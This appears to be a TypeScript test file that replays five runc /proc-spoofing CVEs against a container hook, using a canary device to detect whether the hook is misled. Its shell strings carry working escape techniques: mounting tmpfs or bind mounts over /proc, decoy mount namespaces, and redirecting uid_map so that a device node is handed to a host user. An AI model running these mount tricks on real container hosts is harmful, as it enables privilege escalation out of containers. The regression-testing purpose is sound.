import { type Attack, type Config, GIVE_BY_PATH, OWN_NODE, READ_STATE, replay } from './attack.ts'
import { CANARY } from './canary.ts'
import type { Replay } from './replay.ts'

/** Whoever runs under a /proc that somebody mounted over is told of another process. `$pid` is that of the container. */
const MAPPED = ['--user', '--map-users=100000,0,65536', '--map-groups=100000,0,65536', '--setuid=0', '--setgid=0']

/** A tree that looks like the container, with the canary for its device. */
const FAKE_ROOT = `bundle=\${R%/rootfs}; mkdir -p ${CANARY}/real "${CANARY}/proc/root$bundle/rootfs/dev"; mv ${CANARY}/video2 "${CANARY}/proc/root$bundle/rootfs/dev/video2"`

/** A process in a mount namespace with another device in the same place: what the hook must not be led to. */
const DECOY = `unshare --mount sh -c 'mount -t tmpfs tmpfs "$1/rootfs/dev"; mount --bind ${CANARY}/dev "$1/rootfs/dev"; exec sleep 60' sh "$bundle" >/dev/null 2>&1 </dev/null 3>&- &
decoy=$!; until grep -q " $bundle/rootfs/dev " /proc/$decoy/mountinfo && [ "$(cat /proc/$decoy/comm)" = sleep ]; do :; done`

const covered: Pick<Attack, 'furnish' | 'exits'> = { furnish: OWN_NODE, exits: [65, 78] }

export const PROCFS: readonly Replay[] = [
  replay('CVE-2019-16884', 'runc: a volume was mounted over /proc, and what it said was believed', GIVE_BY_PATH, {
    ...covered,
    furnish: `${OWN_NODE}; ${FAKE_ROOT}`,
    meanwhile: `mount --bind /proc ${CANARY}/real; mount -t tmpfs tmpfs /proc
for name in self thread-self meminfo mounts sys stat cpuinfo; do ln -s ${CANARY}/real/$name /proc/$name; done
mkdir /proc/$pid; ln -s ${CANARY}/proc/root /proc/$pid/root; ln -s ${CANARY}/real/$pid/stat /proc/$pid/stat`,
  }),
  replay('CVE-2019-19921', 'runc: the /proc of a process was a directory of a volume', GIVE_BY_PATH, {
    ...covered,
    furnish: `${OWN_NODE}; ${FAKE_ROOT}`,
    meanwhile: `mount --bind ${CANARY}/proc /proc/$pid`,
  }),
  replay('CVE-2023-27561', 'runc: CVE-2019-19921 once more, after its mending was undone', GIVE_BY_PATH, {
    ...covered,
    meanwhile: `${DECOY}; mount --bind /proc/$decoy /proc/$pid`,
  }),
  replay(
    'CVE-2023-28642',
    'runc: /proc of the container led elsewhere, and so did what went through it',
    `${READ_STATE}; first=$(awk '{ print $2; exit }' /proc/$pid/uid_map); chown $((first + 1000)) "$bundle/rootfs/node"`,
    {
      furnish: ':',
      unshare: MAPPED,
      config: mapped,
      // A file stands for the node: in a user namespace there is no mknod(2).
      meanwhile: ': > "$bundle/rootfs/node"; mount --bind /proc/self/uid_map /proc/$pid/uid_map',
      exits: [65],
      harm: ({ look }) =>
        look('stat -c %u "$R/node"') === '1000' ? 'the node was given to a user of the host' : undefined,
    },
  ),
  replay(
    'CVE-2025-52881',
    'runc: a mount below /proc sent what was written for one process to another',
    `${READ_STATE}; nsenter --mount=/proc/$pid/ns/mnt chown 1000:1000 "$bundle/rootfs/dev/video2"`,
    { ...covered, meanwhile: `${DECOY}; mount --bind /proc/$decoy/ns /proc/$pid/ns` },
  ),
]

function mapped(config: Config): object {
  const map = [{ containerID: 0, hostID: 100_000, size: 65_536 }]
  const namespaces = [...config.linux.namespaces, { type: 'user' }]
  return { ...config, linux: { ...config.linux, namespaces, uidMappings: map, gidMappings: map } }
}
